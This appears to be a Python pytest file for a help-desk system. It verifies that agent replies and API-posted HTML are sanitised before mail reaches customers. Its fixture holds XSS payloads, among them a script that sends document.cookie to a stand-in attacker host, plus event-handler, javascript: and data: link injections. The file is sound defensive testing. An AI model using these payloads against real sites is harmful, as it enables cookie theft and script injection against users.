"""Attack: an agent pastes a customer's hostile content into a reply (or a script posts HTML
to the reply API) so that our domain's DKIM-signed mail carries script, style, event
handlers or javascript: links to the customer.

Answer: the console's markdown is rendered by a strict renderer that writes its own few
tags and escapes every character of the input (domain/markdown_render.py); an `html` part
given to the API is sanitised as received mail is. Checked on the mail SES was handed."""

from __future__ import annotations

import base64
import re
from email import message_from_bytes, policy

import pytest

from tests.support.desk_helpers import new_ticket
from tests.support.staff_api import sent_mail

PASTED = (
    "Customer wrote:\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n"
    '<style>body{display:none}</style><img src=x onerror="alert(1)">\n'
    "<a href='javascript:alert(1)' onmouseover=alert(2)>win</a> [win](javascript:alert(3)) "
    "[win](JaVaScRiPt:alert(4)) [win](data:text/html;base64,PHNjcmlwdD4=) "
    '[ok](https://x.example/" onclick="alert(5))'
)


def _html_sent(outbox: list[dict]) -> str:
    data = outbox[-1]["RawMessage"]["Data"]
    raw = data if isinstance(data, bytes) else base64.b64decode(data)
    return message_from_bytes(raw, policy=policy.default).get_body(("html",)).get_content()


def _tags(html: str) -> list[str]:
    return re.findall(r"<\s*([a-zA-Z]+)([^>]*)>", html)  # type: ignore[return-value]


@pytest.mark.parametrize(
    "body", [{"text": PASTED, "format": "markdown"}, {"text": "see html", "html": PASTED}]
)
def test_no_script_style_handler_or_javascript_link_reaches_the_customer(api, body):
    ticket = new_ticket(api.stack)
    api.call("PUT", "/api/profile", {"signature": "<script>alert(6)</script> [x](javascript:alert(7))"})
    outbox = sent_mail()

    assert api.post(f"/api/tickets/{ticket}/reply", body).status_code == 201

    html = _html_sent(outbox)
    for tag, attributes in _tags(html):
        assert tag.lower() not in ("script", "style", "iframe", "object", "embed"), html
        assert not re.search(r"\bon[a-z]+\s*=", attributes, re.IGNORECASE), html
        hrefs = re.findall(r'href="([^"]*)"', attributes)
        assert all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), html
